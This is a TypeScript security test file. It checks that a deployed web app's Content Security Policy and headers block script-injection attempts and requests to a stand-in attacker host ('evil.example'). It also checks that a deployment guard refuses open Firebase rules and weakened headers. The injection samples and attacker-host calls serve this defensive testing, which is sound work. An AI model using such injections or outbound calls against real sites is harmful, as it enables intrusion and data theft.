import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { appCheckProblems } from '../../scripts/deploy/appCheck.ts';
import { emulatorSettings } from '../../scripts/deploy/emulatorSettings.ts';
import type { FirebaseConfig } from '../../scripts/deploy/guard.ts';
import { weakHeaders } from '../../scripts/deploy/hostingHeaders.ts';
import { openRules } from '../../scripts/deploy/openRules.ts';
import { chooseProject } from '../../scripts/deploy/project.ts';
import { staleRules } from '../../scripts/deploy/staleRules.ts';
import { root } from '../../scripts/root.ts';
import { until } from '../support/until.ts';
import { pageUrl } from '../support/world.ts';
import { deployedRules } from '../rules/world.ts';
import { type Attack, checked } from './attack.ts';

const read = (file: string): string => readFileSync(join(root, file), 'utf8');

/** What a script that got in would try, and the directive that stands in its way. Runs in the page. */
const intrusions: readonly (readonly [what: string, directive: string, attempt: () => unknown])[] = [
  [
    'evaluates a text',
    'require-trusted-types-for',
    // Not at once: what the test itself calls is past the policy.
    () => setTimeout(() => Reflect.construct(Function, ['window.broken = 1'])),
  ],
  [
    'adds a script of its own',
    'require-trusted-types-for',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.broken = 1';
      document.head.append(script);
    },
  ],
  [
    'adds a handler',
    'require-trusted-types-for',
    () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.broken = 1');
      document.body.append(button);
      button.click();
    },
  ],
  [
    'makes html of a text',
    'require-trusted-types-for',
    () => {
      document.body.innerHTML = '<b>x</b>';
    },
  ],
  ['tells another place', 'connect-src', () => fetch('https://evil.example/')],
  [
    'loads a picture from there',
    'img-src',
    () => {
      new Image().src = 'https://evil.example/x.png';
    },
  ],
  [
    'moves the base of all addresses',
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  ],
  [
    'opens a frame',
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  ],
  [
    'registers a worker from elsewhere',
    'require-trusted-types-for',
    () => navigator.serviceWorker.register('https://evil.example/sw.js'),
  ],
];

const headersWanted: readonly (readonly [name: string, pattern: RegExp])[] = [
  ['content-security-policy', /default-src 'none'/],
  ['content-security-policy', /script-src 'self';/],
  ['content-security-policy', /frame-ancestors 'none'/],
  ['content-security-policy', /base-uri 'none'/],
  ['content-security-policy', /require-trusted-types-for 'script'/],
  ['content-security-policy', /^(?!.*unsafe-(inline|eval)).*$/],
  ['x-content-type-options', /^nosniff$/],
  ['x-frame-options', /^DENY$/],
  ['referrer-policy', /^no-referrer$/],
  ['cross-origin-opener-policy', /^same-origin$/],
  ['permissions-policy', /camera=\(\)/],
  ['strict-transport-security', /max-age=31536000/],
];

const policyGaps: Attack = {
  id: 47,
  name: 'Gaps in the page’s policy: inline script, eval, other places, frames, base',
  defence:
    'A strict policy without unsafe-inline, Trusted Types, and headers on every answer; tested as deployed',
  run: async (siege) => {
    const answers = await Promise.all(
      ['/', '/a/b?c', '/index.html'].map((path) => fetch(new URL(path, pageUrl()))),
    );
    const missing = answers.flatMap(({ headers, url }) =>
      headersWanted
        .filter(([name, pattern]) => !pattern.test(headers.get(name) ?? ''))
        .map(([name, pattern]) => `${url} has no ${name} like ${pattern.source}`),
    );
    const page = await siege.blankPage();
    const violated: string[] = [];
    await page.exposeFunction('tellViolation', (directive: string) => violated.push(directive));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        (window as unknown as { tellViolation: (text: string) => void }).tellViolation(effectiveDirective);
      });
    });
    const silent: string[] = [];
    for (const [what, directive, attempt] of intrusions) {
      await page.goto(pageUrl());
      await page.getByRole('textbox').first().waitFor();
      violated.length = 0;
      await page.evaluate(attempt).catch(() => {});
      await until(
        () => violated.some((name) => name.startsWith(directive)),
        `${directive} stops what ${what}`,
        5000,
      ).catch(() => silent.push(`${what}: stopped by nothing (${violated.join(', ') || 'no violation'})`));
    }
    const isBroken = await page.evaluate(() => 'broken' in window);
    await page.context().close();
    return {
      tried: headersWanted.length * answers.length + intrusions.length,
      by: 'headers of Hosting, in Chromium',
      evidence: [
        `${headersWanted.length} headers on ${answers.length} answers`,
        ...intrusions.slice(0, 4).map(([what, directive]) => `${what}: ${directive}`),
      ],
      breaches: [...missing, ...silent, ...(isBroken ? ['A script ran.'] : [])],
    };
  },
};

const open = (rules: object): string => JSON.stringify({ rules });

const badDeployment: Attack = {
  id: 51,
  name: 'Open rules, a demo project, emulator addresses or weak headers, deployed by mistake',
  defence: '`npm run deploy` and firebase-tools itself ask a guard, which refuses with the fix',
  run: () => {
    const config = JSON.parse(read('firebase.json')) as FirebaseConfig & {
      readonly hosting: { readonly headers: Parameters<typeof weakHeaders>[0] };
    };
    const { headers } = config.hosting;
    const hooked = JSON.stringify(config).split('deploy --check').length - 1;
    const weaker = (from: string, to: string) =>
      weakHeaders(JSON.parse(JSON.stringify(headers).replace(from, to)) as typeof headers, []).length > 0;
    const now = new Date('2026-11-22T12:00:00Z');
    const refused: readonly (readonly [string, boolean])[] = [
      ['rules open to read', openRules(open({ '.read': true })).length > 0],
      ['rules open to write', openRules(open({ '.write': true })).length > 0],
      ['rules open to whoever signed in', openRules(open({ '.write': 'auth != null' })).length > 0],
      ['rules open by a detour', openRules(open({ '.read': '1 == 1 || auth != null' })).length > 0],
      ['a whole collection open', openRules(open({ messages: { '.read': 'true' } })).length > 0],
      ['rules that are not rules', openRules('{').length > 0],
      ['rules that are not what rules/ prints', staleRules('{}', deployedRules).length > 0],
      ['a demo project', !chooseProject('demo-causerie', new Map()).ok],
      ['no project', !chooseProject(undefined, new Map()).ok],
      [
        'emulator addresses in the page',
        emulatorSettings(new Map([['a.js', 'http://127.0.0.1:9099']])).length > 0,
      ],
      ['no decision about App Check', appCheckProblems('chat', undefined, '', now).length > 0],
      ['inline scripts', weaker("script-src 'self'", "script-src 'self' 'unsafe-inline'")],
      ['eval', weaker("script-src 'self'", "script-src 'self' 'unsafe-eval'")],
      ['scripts of everybody', weaker("script-src 'self'", 'script-src *')],
      ['no Trusted Types', weaker("require-trusted-types-for 'script'", '')],
      ['frames', weaker("frame-ancestors 'none'", 'frame-ancestors *')],
      ['no nosniff', weaker('nosniff', '')],
    ];
    return Promise.resolve({
      ...checked(
        'the guard of the deployment',
        [
          ...refused.map(([what, holds]) => ({ what: `${what} is refused`, holds })),
          { what: 'the rules of today are not refused', holds: openRules(deployedRules).length === 0 },
          { what: 'the headers of today are not refused', holds: weakHeaders(headers, []).length === 0 },
          { what: 'firebase deploy asks the guard before each part', holds: hooked >= 3 },
        ],
        [openRules(open({ '.read': true }))[0]?.what ?? ''],
      ),
      tried: refused.length,
    });
  },
};

export const deployedAttacks: readonly Attack[] = [policyGaps, badDeployment];
